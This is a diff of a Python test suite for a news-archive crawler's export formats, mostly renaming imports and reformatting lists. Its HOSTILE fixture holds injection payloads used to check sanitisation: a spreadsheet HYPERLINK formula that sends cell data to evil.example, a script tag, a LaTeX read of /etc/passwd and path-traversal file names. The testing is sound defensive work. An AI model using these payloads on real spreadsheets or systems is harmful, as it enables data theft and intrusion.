@@ -16,29 +16,51 @@ from archive.conftest import Newsroom
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from lxml import etree
-from support.gazette import AUTHORS, Press, article
+from support.gazette import AUTHORS, ArchiveBuilder, article
 
 from crawler.archive import Archive
-from crawler.archive.articles.frames import COLUMNS
+from crawler.archive.articles.frames import FRAME_COLUMNS
 from crawler.archive.articles.rows import ArticleRow
 from crawler.archive.search.selection import Selection
-from crawler.comparison.minhash import digest
-from crawler.research.exports import Options, export
-from crawler.research.exports.plain_text import file_name, text_of
-from crawler.research.exports.sanitize import name_part, sound, without_formula, xml_text
-from crawler.research.exports.streams import Stream
-from crawler.research.exports.tabular import cells, csv_rows, json_line
-from crawler.research.exports.tei import document
+from crawler.comparison.minhash import compute_digest
+from crawler.research.exports import ExportOptions, export
+from crawler.research.exports.plain_text import make_file_name, make_text
+from crawler.research.exports.sanitize import escape_formula, make_name_part, replace_non_xml, replace_surrogates
+from crawler.research.exports.streams import HashedStream
+from crawler.research.exports.tabular import format_cells, json_line, make_row_writer
+from crawler.research.exports.tei import make_document
 
 NOW = datetime(2026, 11, 24, 23, 0, 0, tzinfo=UTC)
 TEI = {"t": "http://www.tei-c.org/ns/1.0"}
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"prize")',
-    "+1+1", "-2+3", "@SUM(1+9)", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "\n@cmd", "a;=1+1;b", 'a",=1+1,"b', 'a;"=1+1";b', "- one\n- two",
-    "bell\x07 escape\x1b[2J nul\x00 end", "line\nbreak\r\nand\rreturn", "two\u2028lines\u2029", "\ufeffmark \ufffe\uffff",
-    "<script>alert(1)</script>&amp;]]>", "}{\\input{/etc/passwd}%", "TY  - JOUR\nER  - ", "עברית \u202edrow\u202c", "😀𠮷",
-    "m" * 1_000_000, "../../etc/passwd", "CON", " ", "'quoted'",
-)  # fmt: skip
+    "+1+1",
+    "-2+3",
+    "@SUM(1+9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "＝1+1",
+    "\n@cmd",
+    "a;=1+1;b",
+    'a",=1+1,"b',
+    'a;"=1+1";b',
+    "- one\n- two",
+    "bell\x07 escape\x1b[2J nul\x00 end",
+    "line\nbreak\r\nand\rreturn",
+    "two\u2028lines\u2029",
+    "\ufeffmark \ufffe\uffff",
+    "<script>alert(1)</script>&amp;]]>",
+    "}{\\input{/etc/passwd}%",
+    "TY  - JOUR\nER  - ",
+    "עברית \u202edrow\u202c",
+    "😀𠮷",
+    "m" * 1_000_000,
+    "../../etc/passwd",
+    "CON",
+    " ",
+    "'quoted'",
+)
 """Headlines, bylines, kickers, leads of a page that means ill, or was typed carelessly."""
 
 
@@ -46,16 +68,24 @@ HOSTILE = (
 def hostile(tmp_path_factory):
     """An archive whose articles hold each of these everywhere."""
     path = tmp_path_factory.mktemp("hostile") / "archive.db"
-    press = Press(path)
+    press = ArchiveBuilder(path)
     for number, text in enumerate(HOSTILE):
         made = article(press.room, number, "en")
         short = text[:2000]
         author = replace(AUTHORS["en"][0], name=short, sort_name=short, printed=short)
         made = replace(
-            made, headline=text, byline=short, lead=short, kicker=short, dateline=short, dateline_place=short,
-            body=f"{short}\n\nThe end.", authors=(author,), dateline_agencies=(short,),
-        )  # fmt: skip
-        press.print(replace(made, digest=digest(text, short, short, made.body, "en")))
+            made,
+            headline=text,
+            byline=short,
+            lead=short,
+            kicker=short,
+            dateline=short,
+            dateline_place=short,
+            body=f"{short}\n\nThe end.",
+            authors=(author,),
+            dateline_agencies=(short,),
+        )
+        press.print(replace(made, digest=compute_digest(text, short, short, made.body, "en")))
     press.close()
     return path
 
@@ -64,7 +94,7 @@ def hostile(tmp_path_factory):
 def make(hostile, tmp_path):
     def call(format_, *, name="out", **options):
         with Archive(hostile) as archive:
-            export(archive, Selection(), format_, tmp_path / name, made_at=NOW, options=Options(**options))
+            export(archive, Selection(), format_, tmp_path / name, made_at=NOW, options=ExportOptions(**options))
             return tmp_path / name, list(archive.articles())
 
     return call
@@ -78,10 +108,10 @@ def read_csv(path, encoding="utf-8"):
 
 def test_csv_gives_every_value_back_and_is_rfc_4180(make):
     to, rows = make("csv")
-    assert [list(record.values()) for record in read_csv(to)] == [cells(row) for row in rows]
-    assert list(read_csv(to)[0]) == list(COLUMNS)
+    assert [list(record.values()) for record in read_csv(to)] == [format_cells(row) for row in rows]
+    assert list(read_csv(to)[0]) == list(FRAME_COLUMNS)
     header = to.read_bytes().partition(b"\r\n")[0]
-    assert header.decode() == ",".join(COLUMNS)
+    assert header.decode() == ",".join(FRAME_COLUMNS)
     assert [record["headline"] for record in read_csv(to)] == list(HOSTILE)
     for record, row in zip(read_csv(to), rows, strict=True):
         assert json.loads(record["authors"]) == [author.name for author in row.authors]
@@ -101,7 +131,7 @@ def test_safe_cells_are_no_formulas_wherever_a_program_parts_them(make):
     for record, row in zip(read_csv(to), rows, strict=True):
         for name, cell in record.items():
             assert not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", cell), (name, cell)
-            assert cell.replace("'", "") == cells(row, [name])[0].replace("'", "")  # nothing else is changed
+            assert cell.replace("'", "") == format_cells(row, [name])[0].replace("'", "")  # nothing else is changed
 
 
 @pytest.mark.parametrize("separator", [";", "\t"])
@@ -119,12 +149,12 @@ def test_safe_cells_are_no_formulas_in_a_program_with_another_separator(separato
 
 @pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t1", "\r1", "\n1", " =1", "＝1", "－1"])
 def test_what_begins_like_a_formula_gets_an_apostrophe(text):
-    assert without_formula(text) == f"'{text}"
+    assert escape_formula(text) == f"'{text}"
 
 
 @pytest.mark.parametrize("text", ["", "a=1", "1-2", "'=1", '"=1"', "日本", "2022-03-11", "["])
 def test_what_does_not_stays(text):
-    assert without_formula(text) == text
+    assert escape_formula(text) == text
 
 
 def test_json_lines_are_the_articles(make):
@@ -152,8 +182,10 @@ def test_parquet_has_types_years_and_lists(make, tmp_path):
     assert read["published_at"].null_count() == len(rows)  # no page of these tells the hour
     assert read["year"].to_list() == [row.published_on and int(row.published_on[:4]) for row in rows]
     assert {path.parent.name for path in to.rglob("*.parquet")} == {
-        *(f"year={year}" for year in range(2010, 2014)), "year=__HIVE_DEFAULT_PARTITION__", "year=2014",
-    }  # fmt: skip
+        *(f"year={year}" for year in range(2010, 2014)),
+        "year=__HIVE_DEFAULT_PARTITION__",
+        "year=2014",
+    }
 
 
 def test_texts_are_named_after_their_articles_and_listed(make):
@@ -161,18 +193,38 @@ def test_texts_are_named_after_their_articles_and_listed(make):
     listed = {record["file"]: record for record in read_csv(to / "metadata.csv")}
     assert sorted(listed) == sorted(path.name for path in (to / "texts").iterdir())
     for row in rows:
-        name = file_name(row, "txt")
+        name = make_file_name(row, "txt")
         assert re.fullmatch(r"[a-z0-9_-]+\.txt", name)
-        assert (to / "texts" / name).read_bytes().decode() == text_of(row)
+        assert (to / "texts" / name).read_bytes().decode() == make_text(row)
         assert listed[name]["site_key"] == row.site_key
         assert "body" not in listed[name]
-    assert text_of(rows[1]) == "+1+1\n\n+1+1\n\n+1+1\n\nThe end.\n"
+    assert make_text(rows[1]) == "+1+1\n\n+1+1\n\n+1+1\n\nThe end.\n"
 
 
 def test_names_of_files_are_safe_and_differ_where_keys_differ():
-    keys = ["55334", "../../etc/passwd", "a/b", "a\\b", "CON", "con", "A", "a", "\u00e9", "e\u0301", "", ".", "..", "x" * 300,
-            "x" * 301, "\ud800", "a\x00b", "a b", "-rf", "名"]  # fmt: skip
-    names = [name_part(key) for key in keys]
+    keys = [
+        "55334",
+        "../../etc/passwd",
+        "a/b",
+        "a\\b",
+        "CON",
+        "con",
+        "A",
+        "a",
+        "\u00e9",
+        "e\u0301",
+        "",
+        ".",
+        "..",
+        "x" * 300,
+        "x" * 301,
+        "\ud800",
+        "a\x00b",
+        "a b",
+        "-rf",
+        "名",
+    ]
+    names = [make_name_part(key) for key in keys]
     assert names[0] == "55334"
     assert len({name.lower() for name in names}) == len(keys)
     for name in names:
@@ -201,11 +253,11 @@ def test_tei_is_well_formed_and_reads_back(make, split):
 
 def assert_same(root, row):
     paragraphs = ["".join(paragraph.itertext()) for paragraph in root.findall("t:text/t:body/t:div/t:p", TEI)]
-    assert "\n\n".join(paragraphs) == xml_text(row.body)
-    assert root.findtext("t:text/t:body/t:div/t:head", None, TEI) == xml_text(row.headline)
-    assert root.findtext(".//t:sourceDesc/t:bibl/t:title", None, TEI) == xml_text(row.headline)
-    assert root.findtext("t:text/t:body/t:div/t:argument/t:p", None, TEI) == (row.lead and xml_text(row.lead))
-    assert root.findtext(".//t:keywords/t:term", None, TEI) == (row.kicker and xml_text(row.kicker))
+    assert "\n\n".join(paragraphs) == replace_non_xml(row.body)
+    assert root.findtext("t:text/t:body/t:div/t:head", None, TEI) == replace_non_xml(row.headline)
+    assert root.findtext(".//t:sourceDesc/t:bibl/t:title", None, TEI) == replace_non_xml(row.headline)
+    assert root.findtext("t:text/t:body/t:div/t:argument/t:p", None, TEI) == (row.lead and replace_non_xml(row.lead))
+    assert root.findtext(".//t:keywords/t:term", None, TEI) == (row.kicker and replace_non_xml(row.kicker))
 
 
 ANY = st.text(
@@ -219,12 +271,26 @@ def a_row(headline, lead, body):
     made = Newsroom().article(7)
     fields = {name: getattr(made, name, None) for name in ArticleRow.__dataclass_fields__}
     return ArticleRow(
-        **fields | {
-            "id": 7, "headline": headline, "lead": lead or None, "body": body, "published_at": "2022-03-11", "published_on": "2022-03-11",
-            "published_precision": "day", "published_raw": headline, "published_guessed": False, "modified_at": None, "modified_raw": None,
-            "first_seen_at": "2026-03-01T12:00:00Z", "last_seen_at": "2026-03-01T12:00:00Z", "revisions": 1, "status": "live", "authors": (),
+        **fields
+        | {
+            "id": 7,
+            "headline": headline,
+            "lead": lead or None,
+            "body": body,
+            "published_at": "2022-03-11",
+            "published_on": "2022-03-11",
+            "published_precision": "day",
+            "published_raw": headline,
+            "published_guessed": False,
+            "modified_at": None,
+            "modified_raw": None,
+            "first_seen_at": "2026-03-01T12:00:00Z",
+            "last_seen_at": "2026-03-01T12:00:00Z",
+            "revisions": 1,
+            "status": "live",
+            "authors": (),
         }
-    )  # fmt: skip
+    )
 
 
 @settings(max_examples=60, deadline=None)
@@ -233,23 +299,23 @@ def test_any_text_survives_csv_json_text_and_tei(headline, lead, body):
     row = a_row(headline, lead, body)
     for safe in (False, True):
         buffer = io.BytesIO()
-        csv_rows(Stream(buffer, "-"), safe=safe, bom=False)(cells(row))
+        make_row_writer(HashedStream(buffer, "-"), safe=safe, bom=False)(format_cells(row))
         (read,) = csv.reader(io.StringIO(buffer.getvalue().decode(), newline=""))
-        assert read == [sound(without_formula(cell) if safe else cell) for cell in cells(row)]
+        assert read == [replace_surrogates(escape_formula(cell) if safe else cell) for cell in format_cells(row)]
     line = json_line(row)
     assert line.count("\n") == 1
     assert (json.loads(line)["headline"], json.loads(line)["body"]) == (headline, body)
-    stream = Stream(io.BytesIO(), "-")
-    stream.write_text(text_of(row))
-    assert stream.written.bytes == len(sound(text_of(row)).encode())
-    assert_same(etree.fromstring(etree.tostring(document(row, headline), encoding="utf-8")), row)
+    stream = HashedStream(io.BytesIO(), "-")
+    stream.write_text(make_text(row))
+    assert stream.written.bytes == len(replace_surrogates(make_text(row)).encode())
+    assert_same(etree.fromstring(etree.tostring(make_document(row, headline), encoding="utf-8")), row)
 
 
 def test_what_xml_cannot_hold_is_replaced_and_the_rest_is_not():
-    assert xml_text("a\x00b\x0b\ud800\ufffe\tc\n\r") == "a\ufffdb\ufffd\ufffd\ufffd\tc\n\r"
+    assert replace_non_xml("a\x00b\x0b\ud800\ufffe\tc\n\r") == "a\ufffdb\ufffd\ufffd\ufffd\tc\n\r"
     every = "".join(chr(code_point) for code_point in range(0x110000))
-    kept = etree.fromstring(etree.tostring(_element(xml_text(every)), encoding="utf-8")).text
-    assert kept == xml_text(every)
+    kept = etree.fromstring(etree.tostring(_element(replace_non_xml(every)), encoding="utf-8")).text
+    assert kept == replace_non_xml(every)
     assert sum(a != b for a, b in zip(every, kept, strict=True)) == 29 + 2048 + 2
 
 
